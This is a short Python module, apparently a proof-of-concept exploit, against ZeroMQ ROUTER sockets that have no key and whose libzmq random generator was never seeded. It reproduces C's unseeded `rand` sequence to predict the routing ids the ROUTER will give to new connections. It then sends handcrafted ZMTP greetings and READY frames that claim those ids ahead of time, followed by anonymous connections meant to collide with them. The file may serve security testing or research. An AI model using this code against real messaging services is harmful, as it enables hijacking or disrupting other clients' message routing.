"""Clients that name the ids whose turn comes next in a ROUTER whose numbers were never shuffled."""

from __future__ import annotations

import ctypes
import socket
import struct
from typing import Final

_GREETING: Final = b"\xff" + bytes(8) + b"\x7f\3\0" + b"NULL".ljust(20, b"\0") + bytes(32)
_SOCKETS: Final = 6
_MANY: Final = 12


def predictable() -> list[int]:
    """Where libzmq begins to number connections of the first sockets of a process, if C's `rand`
    was never seeded. Leaves `rand` as it is in a new process."""
    libc = ctypes.CDLL(None)
    libc.srand(1)
    pairs = [(libc.rand(), libc.rand()) for _ in range(_SOCKETS)]
    libc.srand(1)
    return [(low | high << 31) & 0xFFFFFFFF for low, high in pairs]


def name(port: int, identity: bytes) -> socket.socket:
    """A connection to a ROUTER without a key, whose client names its id and says one frame. Does
    not wait until it is let in: the ROUTER's owner may be the caller."""
    one = socket.create_connection(("127.0.0.1", port), timeout=10)
    one.sendall(_GREETING)
    greeted = 0
    while greeted < len(_GREETING):  # which the ROUTER's own thread of input and output says
        part = len(one.recv(len(_GREETING) - greeted))
        assert part, "the ROUTER hung up"
        greeted += part
    body = b"\5READY" + _property(b"Socket-Type", b"DEALER") + _property(b"Identity", identity)
    one.sendall(bytes([4, len(body)]) + body + b"\0\1x")
    return one


def attack(port: int) -> list[socket.socket]:
    """Name the ids of the next connections, then make as many that name none."""
    numbers = [first + more for first in predictable() for more in range(_MANY)]
    ids = [b"\0" + struct.pack("!I", number & 0xFFFFFFFF) for number in numbers]
    return [name(port, one) for one in ids] + [name(port, b"") for _ in range(2 * _MANY)]


def _property(key: bytes, value: bytes) -> bytes:
    return bytes([len(key)]) + key + struct.pack("!I", len(value)) + value
